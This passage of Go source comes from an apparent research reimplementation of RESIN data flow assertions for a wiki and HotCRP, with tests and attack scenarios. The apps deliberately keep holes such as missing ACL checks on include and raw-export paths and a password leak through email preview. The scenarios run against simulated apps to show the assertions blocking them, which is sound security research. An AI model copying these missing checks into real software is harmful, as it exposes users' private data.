func TestPagePolicyPersistsAcrossReload(t *testing.T) {
	a := seeded(true)
	body, err := a.latestBody("Secret")
	if err != nil {
		t.Fatal(err)
	}
	if !body.IsTainted() {
		t.Fatal("page body should carry its persisted PagePolicy")
	}
	ps := body.Policies().Policies()
	pp, ok := ps[0].(*PagePolicy)
	if !ok || len(pp.ACL) != 1 || pp.ACL[0] != "alice" {
		t.Errorf("restored policy = %#v", ps[0])
	}
}

func TestAssertionsSurviveRestart(t *testing.T) {
	// Build a wiki, seed it, then "restart": a fresh App over the same
	// filesystem. The persisted policies and filters keep protecting.
	old := seeded(true)
	restarted := NewWithFS(old.RT, old.FS, true)

	mallory := restarted.Server.NewSession("mallory")
	resp, err := restarted.Server.Do("GET", "/raw", map[string]string{"page": "Secret"}, mallory)
	if err == nil || strings.Contains(resp.RawBody(), "launch code") {
		t.Fatal("restart must not shed the read policy")
	}
	ctx := core.NewContext(core.KindFile)
	ctx.Set("user", "mallory")
	if err := restarted.FS.WriteFile(pageDir("Secret")+"/rev00001", core.NewString("defaced"), ctx); err == nil {
		t.Fatal("restart must not shed the write filter")
	}
	// Alice still works after the restart.
	alice := restarted.Server.NewSession("alice")
	resp, err = restarted.Server.Do("GET", "/view", map[string]string{"page": "Secret"}, alice)
	if err != nil || !strings.Contains(resp.RawBody(), "launch code") {
		t.Fatalf("alice after restart: %v %q", err, resp.RawBody())
	}
}

func TestACLHelpers(t *testing.T) {
	acl := ACL{Read: []string{"a", "b"}, Write: []string{"*"}}
	if !acl.May("a", "read") || acl.May("z", "read") {
		t.Error("read ACL wrong")
	}
	if !acl.May("anyone", "write") {
		t.Error("wildcard write wrong")
	}
	if _, err := seeded(true).PageACL("NoSuchPage"); err == nil {
		t.Error("missing page ACL should error")
	}
}

func TestRenderMissingInclude(t *testing.T) {
	a := seeded(true)
	out := a.render(core.NewString("x {{include:DoesNotExist}} y"))
	if !strings.Contains(out.Raw(), "[missing page]") {
		t.Errorf("render = %q", out.Raw())
	}
}

func TestEditDeniedByACL(t *testing.T) {
	a := seeded(true)
	mallory := a.Server.NewSession("mallory")
	resp, err := a.Server.Do("GET", "/edit",
		map[string]string{"page": "Secret", "body": "defaced"}, mallory)
	if err == nil || resp.Status != 403 {
		t.Errorf("edit should be denied: %v %d", err, resp.Status)
	}
}

func TestViewMissingPage(t *testing.T) {
	a := seeded(true)
	s := a.Server.NewSession("alice")
	resp, err := a.Server.Do("GET", "/view", map[string]string{"page": "Nope"}, s)
	if err == nil || resp.Status != 404 {
		t.Errorf("missing page: %v %d", err, resp.Status)
	}
}
