package wiki

import (
	"strings"

	"resin/internal/core"
)

// seeded builds a wiki with a secret page (readable only by alice) and a
// public page writable by everyone.
func seeded(withAssertions bool) *App {
	rt := core.NewRuntime()
	if !withAssertions {
		rt = core.NewUntrackedRuntime()
	}
	a := New(rt, withAssertions)
	mustCreate(a, "Secret", ACL{Read: []string{"alice"}, Write: []string{"alice"}},
		"the launch code is 0000", "alice")
	mustCreate(a, "Public", ACL{Read: []string{"*"}, Write: []string{"*"}},
		"welcome to the wiki", "alice")
	return a
}

func mustCreate(a *App, name string, acl ACL, body, author string) {
	if err := a.CreatePage(name, acl, body, author); err != nil {
		panic(err)
	}
}

// AttackIncludeDirective mounts CVE-2008-6548: mallory edits the public
// page to include the secret page, then views the public page; the
// include path fetches the secret content without checking its ACL.
func AttackIncludeDirective(withAssertions bool) (leaked bool, blockErr error) {
	a := seeded(withAssertions)
	mallory := a.Server.NewSession("mallory")
	if _, err := a.Server.Do("GET", "/edit",
		map[string]string{"page": "Public", "body": "see {{include:Secret}}"}, mallory); err != nil {
		return false, err
	}
	resp, err := a.Server.Do("GET", "/view", map[string]string{"page": "Public"}, mallory)
	leaked = strings.Contains(resp.RawBody(), "launch code")
	if err != nil {
		if _, ok := core.IsAssertionError(err); ok {
			blockErr = err
		}
	}
	return leaked, blockErr
}

// AttackRawExport mounts the second missing read check: mallory fetches
// the secret page through the raw-export action, which forgot its ACL
// check.
func AttackRawExport(withAssertions bool) (leaked bool, blockErr error) {
	a := seeded(withAssertions)
	mallory := a.Server.NewSession("mallory")
	resp, err := a.Server.Do("GET", "/raw", map[string]string{"page": "Secret"}, mallory)
	leaked = strings.Contains(resp.RawBody(), "launch code")
	if err != nil {
		if _, ok := core.IsAssertionError(err); ok {
			blockErr = err
		}
	}
	return leaked, blockErr
}

// LegitimateRead checks that alice can still read her page through every
// path with the assertions installed.
func LegitimateRead(withAssertions bool) (ok bool, err error) {
	a := seeded(withAssertions)
	alice := a.Server.NewSession("alice")
	resp, err := a.Server.Do("GET", "/view", map[string]string{"page": "Secret"}, alice)
	if err != nil {
		return false, err
	}
	if !strings.Contains(resp.RawBody(), "launch code") {
		return false, nil
	}
	resp, err = a.Server.Do("GET", "/raw", map[string]string{"page": "Secret"}, alice)
	if err != nil {
		return false, err
	}
	return strings.Contains(resp.RawBody(), "launch code"), nil
}

// LegitimateWrite checks that authorized edits still work.
func LegitimateWrite(withAssertions bool) (ok bool, err error) {
	a := seeded(withAssertions)
	alice := a.Server.NewSession("alice")
	if _, err := a.Server.Do("GET", "/edit",
		map[string]string{"page": "Secret", "body": "updated text"}, alice); err != nil {
		return false, err
	}
	body, err := a.latestBody("Secret")
	if err != nil {
		return false, err
	}
	return body.Raw() == "updated text", nil
}

// UnauthorizedDirectWrite exercises the write assertion below the
// application layer: mallory's code path writes straight into the page's
// revision directory, bypassing the handler's ACL check. The persistent
// directory filter is what stands in the way.
func UnauthorizedDirectWrite(withAssertions bool) (written bool, blockErr error) {
	a := seeded(withAssertions)
	ctx := core.NewContext(core.KindFile)
	ctx.Set("user", "mallory")
	err := a.FS.WriteFile(pageDir("Secret")+"/rev99999", core.NewString("defaced"), ctx)
	if err != nil {
		return false, err
	}
	return true, nil
}
