package hotcrp

// Review support: the paper's introduction names HotCRP's "own data flow
// rules relating to ... reviewer conflicts of interest" and "who may read
// a paper's reviews" (§1, §2). This file adds the review store and the
// two review assertions as an extension beyond the Table 4 rows:
//
//   - ReviewPolicy: review text may flow only to PC members and to the
//     paper's own authors;
//   - ReviewerIdentityPolicy: the reviewer's identity may flow only to PC
//     members — authors see the text but never who wrote it (rendered
//     with the §5.5 output-buffering pattern).

import (
	"errors"
	"fmt"
	"strconv"

	"resin/internal/core"
	"resin/internal/httpd"
	"resin/internal/sanitize"
)

// ReviewPolicy guards review text.
type ReviewPolicy struct {
	PaperID int `json:"paper_id"`
}

// ExportCheck allows PC members, the chair, and the paper's authors.
func (p *ReviewPolicy) ExportCheck(ctx *core.Context) error {
	if ctx.Type() != core.KindHTTP {
		return errors.New("reviews may leave only via HTTP")
	}
	if ctx.GetBool("privChair") || ctx.GetBool("pc") {
		return nil
	}
	user, _ := ctx.GetString("user")
	if paperHasAuthor(ctx, p.PaperID, user) {
		return nil
	}
	return errors.New("insufficient access to review")
}

// ReviewerIdentityPolicy guards the reviewer's name.
type ReviewerIdentityPolicy struct {
	PaperID int `json:"paper_id"`
}

// ExportCheck allows only PC members and the chair.
func (p *ReviewerIdentityPolicy) ExportCheck(ctx *core.Context) error {
	if ctx.Type() == core.KindHTTP && (ctx.GetBool("privChair") || ctx.GetBool("pc")) {
		return nil
	}
	return errors.New("reviewer identity is confidential")
}

func init() {
	core.RegisterPolicyClass("hotcrp.ReviewPolicy", &ReviewPolicy{})
	core.RegisterPolicyClass("hotcrp.ReviewerIdentityPolicy", &ReviewerIdentityPolicy{})
}

// EnableReviews creates the review store and registers the review page.
// Call before adding reviews. The paper column is indexed — the review
// page is a point lookup per paper — and the listing orders by reviewer
// for a deterministic page regardless of submission order (the bucket
// probe dominates; the per-paper sort is a handful of rows).
//
// The page query is ONE prepared LEFT JOIN: paper title and review rows
// arrive together, and a paper without reviews still produces its title
// row (NULL-padded review columns, skipped by the renderer). This
// replaces the old shape — one reviews query plus a papers lookup per
// rendered row — with a single statement.
func (a *App) EnableReviews() {
	a.DB.MustExec("CREATE TABLE reviews (paper INT, reviewer TEXT, body TEXT)")
	a.DB.MustExec("CREATE INDEX ON reviews (paper)")
	a.insReview = a.DB.MustPrepare("INSERT INTO reviews (paper, reviewer, body) VALUES (?, ?, ?)")
	a.selReviews = a.DB.MustPrepare(
		"SELECT papers.title, reviews.reviewer, reviews.body FROM papers LEFT JOIN reviews ON papers.id = reviews.paper WHERE papers.id = ? ORDER BY reviews.reviewer")
	a.Server.Handle("/reviews", a.handleReviews)
}

// AddReview stores a review; with assertions on, text and reviewer carry
// their policies into the database.
func (a *App) AddReview(paperID int, reviewer, text string) error {
	if a.insReview == nil {
		return errors.New("hotcrp: reviews not enabled (call EnableReviews first)")
	}
	rv := core.NewString(reviewer)
	tx := core.NewString(text)
	if a.assertions {
		rv = a.RT.PolicyAdd(rv, &ReviewerIdentityPolicy{PaperID: paperID})
		tx = a.RT.PolicyAdd(tx, &ReviewPolicy{PaperID: paperID})
	}
	_, err := a.insReview.Exec(paperID, rv, tx)
	return err
}

// handleReviews renders a paper's reviews. With assertions on, there are
// no explicit access checks here at all: the policies decide, and the
// reviewer identity line falls back to "Reviewer" via output buffering
// when the identity policy objects. Without assertions, the equivalent
// explicit checks run (the unmodified-HotCRP behaviour).
func (a *App) handleReviews(req *httpd.Request, resp *httpd.Response) error {
	a.annotate(req, resp)
	id, err := strconv.Atoi(req.ParamRaw("id"))
	if err != nil {
		resp.Status = 400
		return fmt.Errorf("hotcrp: bad paper id %q", req.ParamRaw("id"))
	}
	res, err := a.selReviews.Query(id)
	if err != nil {
		return err
	}
	if res.Len() == 0 {
		resp.Status = 404
		return httpd.ErrNotFound
	}
	user := ""
	if req.Session != nil {
		user = req.Session.User
	}
	chair, pc := a.userInfo(user)
	if !a.assertions {
		// Unmodified HotCRP: one explicit access check for the whole
		// page. (Before the JOIN migration this ran inside the render
		// loop — an authors lookup per review row.)
		if !chair && !pc && !a.isPaperAuthor(id, user) {
			resp.Status = 403
			return fmt.Errorf("hotcrp: %s may not read reviews of #%d", user, id)
		}
	}
	resp.WriteRaw("<html><body><h1>Reviews for #" + strconv.Itoa(id) + "</h1>\n")
	// The title rides on the same JOIN rows; its PaperPolicy decides who
	// may see it when assertions are on (authors and PC pass).
	title := res.Get(0, "papers.title").Str
	if werr := resp.Write(core.Format("<h2>%s</h2>\n", sanitize.HTMLEscape(title))); werr != nil {
		return werr
	}
	for i := 0; i < res.Len(); i++ {
		if res.Get(i, "reviews.reviewer").Null {
			continue // LEFT JOIN padding: the paper exists but has no reviews
		}
		reviewer := res.Get(i, "reviews.reviewer").Str
		text := res.Get(i, "reviews.body").Str
		if a.assertions {
			ch := resp.Channel()
			ch.BeginBuffer()
			if werr := resp.Write(core.Format("<h3>%s</h3>", sanitize.HTMLEscape(reviewer))); werr != nil {
				if derr := ch.DiscardBuffer(); derr != nil {
					return derr
				}
				resp.WriteRaw("<h3>Reviewer</h3>")
			} else if rerr := ch.ReleaseBuffer(); rerr != nil {
				return rerr
			}
		} else {
			if chair || pc {
				resp.Write(core.Format("<h3>%s</h3>", sanitize.HTMLEscape(reviewer)))
			} else {
				resp.WriteRaw("<h3>Reviewer</h3>")
			}
		}
		if werr := resp.Write(core.Format("<p>%s</p>\n", sanitize.HTMLEscape(text))); werr != nil {
			return werr
		}
	}
	resp.WriteRaw("</body></html>")
	return nil
}

// isPaperAuthor checks authorship via the papers table.
func (a *App) isPaperAuthor(paperID int, user string) bool {
	if user == "" {
		return false
	}
	ctx := core.NewContext(core.KindHTTP)
	ctx.Set("db", a.DB)
	return paperHasAuthor(ctx, paperID, user)
}
