package hotcrp

// The RESIN data flow assertions for HotCRP (Table 4). Each assertion is
// delimited by BEGIN/END markers; the security evaluation harness embeds
// this file and reports the line count of each assertion, reproducing the
// "Assertion LOC" column.

import (
	_ "embed"
	"errors"
	"strings"

	"resin/internal/core"
	"resin/internal/sqldb"
)

// AssertionSource is this file's source, embedded for LoC accounting.
//
//go:embed assertions.go
var AssertionSource string

// BEGIN ASSERTION: hotcrp-password-disclosure

// PasswordPolicy is the policy object of Figure 2: "this policy only
// allows a password to be disclosed to the user's own email address or to
// the program chair".
type PasswordPolicy struct {
	Email string `json:"email"`
}

// ExportCheck implements Data Flow Assertion 5.
func (p *PasswordPolicy) ExportCheck(ctx *core.Context) error {
	if ctx.Type() == core.KindEmail {
		if to, _ := ctx.GetString("email"); to == p.Email {
			return nil
		}
	}
	if ctx.Type() == core.KindHTTP && ctx.GetBool("privChair") {
		return nil
	}
	return errors.New("unauthorized disclosure")
}

// END ASSERTION

// BEGIN ASSERTION: hotcrp-paper-access

// PaperPolicy guards a paper's title and abstract: only PC members, the
// chair, and the paper's own authors may receive them.
type PaperPolicy struct {
	PaperID int `json:"paper_id"`
}

// ExportCheck allows PC members, the chair, and the paper's authors.
func (p *PaperPolicy) ExportCheck(ctx *core.Context) error {
	if ctx.Type() != core.KindHTTP {
		return errors.New("papers may leave only via HTTP")
	}
	if ctx.GetBool("privChair") || ctx.GetBool("pc") {
		return nil
	}
	user, _ := ctx.GetString("user")
	if user != "" && paperHasAuthor(ctx, p.PaperID, user) {
		return nil
	}
	return errors.New("insufficient access to paper")
}

// END ASSERTION

// BEGIN ASSERTION: hotcrp-author-list

// AuthorListPolicy guards the author list of a submission: for anonymous
// submissions, PC members must not see it (§5.5); only the authors
// themselves and the program chair may.
type AuthorListPolicy struct {
	PaperID   int      `json:"paper_id"`
	Anonymous bool     `json:"anonymous"`
	Authors   []string `json:"authors"`
}

// ExportCheck denies anonymous author lists to everyone but the authors
// and the chair; it re-checks authorship against the database when a
// handle is available (the extra code the paper notes makes this the
// largest assertion).
func (p *AuthorListPolicy) ExportCheck(ctx *core.Context) error {
	if ctx.Type() != core.KindHTTP {
		return errors.New("author lists may leave only via HTTP")
	}
	if ctx.GetBool("privChair") {
		return nil
	}
	user, _ := ctx.GetString("user")
	isAuthor := false
	for _, a := range p.Authors {
		if a == user {
			isAuthor = true
		}
	}
	if paperHasAuthor(ctx, p.PaperID, user) {
		isAuthor = true
	}
	if !p.Anonymous {
		if ctx.GetBool("pc") || isAuthor {
			return nil
		}
		return errors.New("insufficient access to author list")
	}
	if isAuthor {
		return nil
	}
	return errors.New("author list is anonymized")
}

// paperHasAuthor issues a database query to decide authorship, reusing the
// application's own data through the channel context.
func paperHasAuthor(ctx *core.Context, paperID int, user string) bool {
	dbv, ok := ctx.Get("db")
	if !ok || user == "" {
		return false
	}
	db, ok := dbv.(*sqldb.DB)
	if !ok {
		return false
	}
	res, err := db.Query(core.NewString("SELECT authors FROM papers WHERE id = ?"), int64(paperID))
	if err != nil || res.Len() == 0 {
		return false
	}
	for _, part := range strings.Split(res.Get(0, "authors").Str.Raw(), ",") {
		if strings.TrimSpace(part) == user {
			return true
		}
	}
	return false
}

// END ASSERTION

func init() {
	core.RegisterPolicyClass("hotcrp.PasswordPolicy", &PasswordPolicy{})
	core.RegisterPolicyClass("hotcrp.PaperPolicy", &PaperPolicy{})
	core.RegisterPolicyClass("hotcrp.AuthorListPolicy", &AuthorListPolicy{})
}
