package hotcrp

import (
	"errors"
	"strings"

	"resin/internal/core"
)

// NewBenchInstance builds the §7.1 application-performance experiment: a
// PC member requests the page for a specific paper, including session
// recall, SQL queries, and — with RESIN — the two data flow assertions
// (the paper policy, which passes, and the author-list policy, which
// raises and is handled with output buffering). The paper measured 66 ms
// unmodified vs 88 ms under RESIN (33% CPU overhead) on 2009 hardware;
// the comparable quantity here is the relative overhead.
//
// The returned render closure performs one full page generation and
// verifies the page is well-formed.
func NewBenchInstance(withResin bool) (app *App, render func() error) {
	rt := core.NewRuntime()
	if !withResin {
		rt = core.NewUntrackedRuntime()
	}
	app = New(rt, withResin)
	sess := app.Server.NewSession("pc@conf.org")
	render = func() error {
		resp, err := app.Server.Do("GET", "/paper", map[string]string{"id": "1"}, sess)
		if err != nil {
			return err
		}
		body := resp.RawBody()
		if !strings.Contains(body, "Data Flow Assertions") {
			return errors.New("hotcrp bench: title missing")
		}
		if !strings.Contains(body, "Anonymous") {
			return errors.New("hotcrp bench: author list not anonymized")
		}
		return nil
	}
	return app, render
}
