package hotcrp

import (
	"strings"

	"resin/internal/core"
)

// Attack scenarios for the security evaluation (Table 4). Each builds a
// fresh instance — with the RESIN assertions installed or not — mounts the
// attack, and reports whether the secret leaked and what error (if any)
// blocked the flow.

// newInstance builds an app for an attack run. Without assertions the
// runtime is untracked, modelling unmodified HotCRP on the unmodified
// interpreter.
func newInstance(withAssertions bool) *App {
	rt := core.NewRuntime()
	if !withAssertions {
		rt = core.NewUntrackedRuntime()
	}
	return New(rt, withAssertions)
}

// AttackPasswordPreview mounts the §2 password disclosure (CVE-style,
// previously known): with email preview mode on, an adversary requests a
// password reminder for the victim's account and reads the password from
// their own browser.
func AttackPasswordPreview(withAssertions bool) (leaked bool, blockErr error) {
	a := newInstance(withAssertions)
	a.EmailPreview = true
	attacker := a.Server.NewSession("attacker@evil.com")
	resp, err := a.Server.Do("GET", "/remind", map[string]string{"email": "victim@conf.org"}, attacker)
	leaked = strings.Contains(resp.RawBody(), "victim-secret-99")
	if err != nil {
		if _, ok := core.IsAssertionError(err); ok {
			blockErr = err
		}
	}
	return leaked, blockErr
}

// LegitimateReminder checks that the password reminder still works when
// addressed to the account owner with preview off — the assertion must not
// break the feature.
func LegitimateReminder(withAssertions bool) (delivered bool, err error) {
	a := newInstance(withAssertions)
	sess := a.Server.NewSession("victim@conf.org")
	if _, err = a.Server.Do("GET", "/remind", map[string]string{"email": "victim@conf.org"}, sess); err != nil {
		return false, err
	}
	sent := a.Mailer.Sent()
	return len(sent) == 1 && sent[0].To == "victim@conf.org" &&
		strings.Contains(sent[0].Body.Raw(), "victim-secret-99"), nil
}

// ChairPreview checks that the program chair may still preview reminder
// email in the browser (the explicit exception in Figure 2).
func ChairPreview(withAssertions bool) (shown bool, err error) {
	a := newInstance(withAssertions)
	a.EmailPreview = true
	chair := a.Server.NewSession("chair@conf.org")
	resp, err := a.Server.Do("GET", "/remind", map[string]string{"email": "victim@conf.org"}, chair)
	if err != nil {
		return false, err
	}
	return strings.Contains(resp.RawBody(), "victim-secret-99"), nil
}

// PaperPageForPC renders the anonymous paper for a PC member: title and
// abstract must appear; the author list must render as "Anonymous".
func PaperPageForPC(withAssertions bool) (body string, err error) {
	a := newInstance(withAssertions)
	pc := a.Server.NewSession("pc@conf.org")
	resp, err := a.Server.Do("GET", "/paper", map[string]string{"id": "1"}, pc)
	if err != nil {
		return "", err
	}
	return resp.RawBody(), nil
}

// PaperPageForAuthor renders the anonymous paper for one of its authors:
// the real author list must appear.
func PaperPageForAuthor(withAssertions bool) (body string, err error) {
	a := newInstance(withAssertions)
	au := a.Server.NewSession("author@uni.edu")
	resp, err := a.Server.Do("GET", "/paper", map[string]string{"id": "1"}, au)
	if err != nil {
		return "", err
	}
	return resp.RawBody(), nil
}

// AttackOutsiderPaperAccess has a logged-in non-PC outsider request a
// paper page; the PaperPolicy assertion must deny the title/abstract.
// (No known CVE — the paper lists this assertion with zero prevented
// vulnerabilities; it is defense in depth.)
func AttackOutsiderPaperAccess(withAssertions bool) (leaked bool, blockErr error) {
	a := newInstance(withAssertions)
	outsider := a.Server.NewSession("rando@else.where")
	resp, err := a.Server.Do("GET", "/paper", map[string]string{"id": "1"}, outsider)
	leaked = strings.Contains(resp.RawBody(), "Data Flow Assertions")
	if err != nil {
		if _, ok := core.IsAssertionError(err); ok {
			blockErr = err
		}
	}
	return leaked, blockErr
}
