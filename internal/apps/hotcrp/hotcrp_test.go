package hotcrp

import (
	"strings"
	"testing"

	"resin/internal/core"
)

func TestAttackPasswordPreviewVulnerableWithoutAssertion(t *testing.T) {
	leaked, _ := AttackPasswordPreview(false)
	if !leaked {
		t.Fatal("unmodified HotCRP must leak the password (the bug must exist)")
	}
}

func TestAttackPasswordPreviewBlockedWithAssertion(t *testing.T) {
	leaked, blockErr := AttackPasswordPreview(true)
	if leaked {
		t.Fatal("assertion failed to stop the disclosure")
	}
	if blockErr == nil {
		t.Fatal("the flow should have been blocked by an assertion error")
	}
	ae, _ := core.IsAssertionError(blockErr)
	if _, ok := ae.Policy.(*PasswordPolicy); !ok {
		t.Errorf("blocking policy = %T", ae.Policy)
	}
}

func TestLegitimateReminderWorksBothWays(t *testing.T) {
	for _, on := range []bool{false, true} {
		delivered, err := LegitimateReminder(on)
		if err != nil {
			t.Fatalf("assertions=%v: %v", on, err)
		}
		if !delivered {
			t.Errorf("assertions=%v: reminder not delivered", on)
		}
	}
}

func TestChairPreviewAllowed(t *testing.T) {
	for _, on := range []bool{false, true} {
		shown, err := ChairPreview(on)
		if err != nil {
			t.Fatalf("assertions=%v: %v", on, err)
		}
		if !shown {
			t.Errorf("assertions=%v: chair preview should show the message", on)
		}
	}
}

func TestPaperPageAnonymizedForPC(t *testing.T) {
	for _, on := range []bool{false, true} {
		body, err := PaperPageForPC(on)
		if err != nil {
			t.Fatalf("assertions=%v: %v", on, err)
		}
		if !strings.Contains(body, "Data Flow Assertions") {
			t.Errorf("assertions=%v: title missing from %q", on, body)
		}
		if !strings.Contains(body, "Anonymous") {
			t.Errorf("assertions=%v: author list not anonymized", on)
		}
		if strings.Contains(body, "author@uni.edu") {
			t.Errorf("assertions=%v: author list leaked", on)
		}
	}
}

func TestPaperPageAuthorsVisibleToAuthor(t *testing.T) {
	for _, on := range []bool{false, true} {
		body, err := PaperPageForAuthor(on)
		if err != nil {
			t.Fatalf("assertions=%v: %v", on, err)
		}
		if !strings.Contains(body, "author@uni.edu") {
			t.Errorf("assertions=%v: author should see the author list: %q", on, body)
		}
	}
}

func TestOutsiderPaperAccess(t *testing.T) {
	leaked, _ := AttackOutsiderPaperAccess(false)
	if !leaked {
		t.Fatal("unmodified app shows papers to any logged-in user")
	}
	leaked, blockErr := AttackOutsiderPaperAccess(true)
	if leaked || blockErr == nil {
		t.Fatalf("assertion should block outsiders: leaked=%v err=%v", leaked, blockErr)
	}
}

func TestNonAnonymousPaperVisibleToPC(t *testing.T) {
	a := newInstance(true)
	pc := a.Server.NewSession("pc@conf.org")
	resp, err := a.Server.Do("GET", "/paper", map[string]string{"id": "2"}, pc)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(resp.RawBody(), "author@uni.edu") {
		t.Errorf("PC should see authors of non-anonymous papers: %q", resp.RawBody())
	}
}

func TestPasswordPersistsPolicyThroughDB(t *testing.T) {
	a := newInstance(true)
	res, err := a.DB.QueryRaw("SELECT password FROM users WHERE email = 'victim@conf.org'")
	if err != nil {
		t.Fatal(err)
	}
	pw := res.Get(0, "password").Str
	if !pw.IsTainted() {
		t.Fatal("password came back from the DB without its policy")
	}
	found := false
	for _, p := range pw.Policies().Policies() {
		if pp, ok := p.(*PasswordPolicy); ok && pp.Email == "victim@conf.org" {
			found = true
		}
	}
	if !found {
		t.Error("PasswordPolicy with the owner's email should be attached")
	}
}

func TestBadRequests(t *testing.T) {
	a := newInstance(true)
	sess := a.Server.NewSession("pc@conf.org")
	if resp, err := a.Server.Do("GET", "/paper", map[string]string{"id": "zzz"}, sess); err == nil || resp.Status != 400 {
		t.Error("bad id should 400")
	}
	if resp, err := a.Server.Do("GET", "/paper", map[string]string{"id": "99"}, sess); err == nil || resp.Status != 404 {
		t.Error("missing paper should 404")
	}
	if resp, err := a.Server.Do("GET", "/remind", map[string]string{"email": "nobody@x"}, sess); err == nil || resp.Status != 404 {
		t.Error("missing account should 404")
	}
}

func TestAssertionSourceEmbedded(t *testing.T) {
	if !strings.Contains(AssertionSource, "BEGIN ASSERTION: hotcrp-password-disclosure") {
		t.Error("assertion source must carry section markers for LoC accounting")
	}
	if !strings.Contains(AssertionSource, "PasswordPolicy") {
		t.Error("assertion source incomplete")
	}
}
