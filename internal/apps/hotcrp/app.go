// Package hotcrp re-implements the slice of the HotCRP conference manager
// that the RESIN paper evaluates: user accounts with password reminders
// (and the email-preview feature whose interaction with reminders caused
// the §2 password disclosure), and paper pages with anonymous-submission
// author lists (§5.5, §7.1).
//
// The package contains both the vulnerable logic (faithful to the bug) and
// the RESIN assertions of Table 4 (assertions.go): password protection
// (23 LoC in the paper), paper access checks (30 LoC) and author-list
// access checks (32 LoC).
package hotcrp

import (
	"fmt"
	"strconv"
	"strings"

	"resin/internal/core"
	"resin/internal/httpd"
	"resin/internal/mail"
	"resin/internal/sanitize"
	"resin/internal/sqldb"
)

// Paper is a seeded submission.
type Paper struct {
	ID        int
	Title     string
	Abstract  string
	Authors   []string // author account emails
	Anonymous bool
}

// User is a seeded account.
type User struct {
	Email    string
	Password string
	Chair    bool
	PC       bool
}

// DefaultUsers seeds the conference: a program chair, a PC member, and two
// authors.
func DefaultUsers() []User {
	return []User{
		{Email: "chair@conf.org", Password: "chair-pass-42", Chair: true, PC: true},
		{Email: "pc@conf.org", Password: "pc-pass-77", PC: true},
		{Email: "victim@conf.org", Password: "victim-secret-99"},
		{Email: "author@uni.edu", Password: "author-pass-11"},
	}
}

// DefaultPapers seeds two submissions, one anonymous.
func DefaultPapers() []Paper {
	return []Paper{
		{ID: 1, Title: "Data Flow Assertions", Abstract: "We present a runtime.",
			Authors: []string{"author@uni.edu", "victim@conf.org"}, Anonymous: true},
		{ID: 2, Title: "A Public Submission", Abstract: "Nothing to hide.",
			Authors: []string{"author@uni.edu"}, Anonymous: false},
	}
}

// App is one HotCRP instance.
type App struct {
	RT     *core.Runtime
	DB     *sqldb.DB
	Server *httpd.Server
	Mailer *mail.Mailer

	// EmailPreview is the site option of §2: "the site administrator
	// configures HotCRP to display email messages in the browser, rather
	// than send them".
	EmailPreview bool

	assertions bool

	// Prepared statements for the hot paths (docs/SQL.md §6): compiled
	// once at startup, executed with bound arguments — values (and
	// their policies) never touch the query text, so injection through
	// them is structurally impossible.
	insUser     *sqldb.Stmt
	insPaper    *sqldb.Stmt
	selUserInfo *sqldb.Stmt
	selPaper    *sqldb.Stmt
	selPassword *sqldb.Stmt
	insReview   *sqldb.Stmt
	selReviews  *sqldb.Stmt
}

// New builds a HotCRP instance over rt, creating the schema, seeding the
// default users and papers, and registering the request handlers. When
// withAssertions is set, the RESIN assertions of assertions.go are
// installed before any data is stored, so the seeded secrets carry their
// policies from the start.
func New(rt *core.Runtime, withAssertions bool) *App {
	a := &App{
		RT:         rt,
		DB:         sqldb.Open(rt),
		Server:     httpd.NewServer(rt),
		Mailer:     mail.NewMailer(rt),
		assertions: withAssertions,
	}
	a.DB.MustExec("CREATE TABLE users (email TEXT, password TEXT, chair INT, pc INT)")
	a.DB.MustExec("CREATE TABLE papers (id INT, title TEXT, abstract TEXT, authors TEXT, anonymous INT)")
	// Every hot query is a point lookup on one of these columns (login
	// and password reminders by email, the paper page by id); the hash
	// indexes turn them from table scans into bucket probes.
	a.DB.MustExec("CREATE INDEX ON users (email)")
	a.DB.MustExec("CREATE INDEX ON papers (id)")
	a.insUser = a.DB.MustPrepare("INSERT INTO users (email, password, chair, pc) VALUES (?, ?, ?, ?)")
	a.insPaper = a.DB.MustPrepare("INSERT INTO papers (id, title, abstract, authors, anonymous) VALUES (?, ?, ?, ?, ?)")
	a.selUserInfo = a.DB.MustPrepare("SELECT chair, pc FROM users WHERE email = ?")
	a.selPaper = a.DB.MustPrepare("SELECT title, abstract, authors, anonymous FROM papers WHERE id = ?")
	a.selPassword = a.DB.MustPrepare("SELECT password FROM users WHERE email = ?")
	for _, u := range DefaultUsers() {
		a.AddUser(u)
	}
	for _, p := range DefaultPapers() {
		a.AddPaper(p)
	}
	a.Server.Handle("/paper", a.handlePaper)
	a.Server.Handle("/remind", a.handleRemind)
	a.Server.Handle("/audit", httpd.AuditHandler(a.resolveAudit))
	return a
}

// resolveAudit backs the /audit endpoint: ?email=X audits the account's
// stored password — "show every boundary this password crossed".
func (a *App) resolveAudit(req *httpd.Request) (core.String, string, error) {
	email := req.Param("email")
	res, err := a.selPassword.Query(email)
	if err != nil {
		return core.String{}, "", err
	}
	if res.Len() == 0 {
		return core.String{}, "", fmt.Errorf("hotcrp: no account %q", email.Raw())
	}
	return res.Get(0, "password").Str, "password of " + email.Raw(), nil
}

// AddUser stores an account; with assertions on, the password is annotated
// with its PasswordPolicy, which the SQL filter persists into the policy
// column (§3.4.1, Figure 4).
func (a *App) AddUser(u User) {
	pw := core.NewString(u.Password)
	if a.assertions {
		pw = a.RT.PolicyAdd(pw, &PasswordPolicy{Email: u.Email})
	}
	if _, err := a.insUser.Exec(u.Email, pw, boolInt(u.Chair), boolInt(u.PC)); err != nil {
		panic(fmt.Sprintf("hotcrp: seed user: %v", err))
	}
}

// AddPaper stores a submission; with assertions on, title and abstract
// carry a PaperPolicy and the author list an AuthorListPolicy.
func (a *App) AddPaper(p Paper) {
	title := core.NewString(p.Title)
	abstract := core.NewString(p.Abstract)
	authors := core.NewString(strings.Join(p.Authors, ", "))
	if a.assertions {
		pp := &PaperPolicy{PaperID: p.ID}
		title = a.RT.PolicyAdd(title, pp)
		abstract = a.RT.PolicyAdd(abstract, pp)
		authors = a.RT.PolicyAdd(authors, &AuthorListPolicy{
			PaperID: p.ID, Anonymous: p.Anonymous, Authors: p.Authors,
		})
	}
	if _, err := a.insPaper.Exec(p.ID, title, abstract, authors, boolInt(p.Anonymous)); err != nil {
		panic(fmt.Sprintf("hotcrp: seed paper: %v", err))
	}
}

func boolInt(b bool) int64 {
	if b {
		return 1
	}
	return 0
}

// userInfo returns (chair, pc) flags for an account.
func (a *App) userInfo(email string) (chair, pc bool) {
	res, err := a.selUserInfo.Query(email)
	if err != nil || res.Len() == 0 {
		return false, false
	}
	return res.Get(0, "chair").Int.Value() == 1, res.Get(0, "pc").Int.Value() == 1
}

// annotate sets the response channel context the assertions consult: the
// authenticated user, the $Me->privChair flag of Figure 2, PC membership,
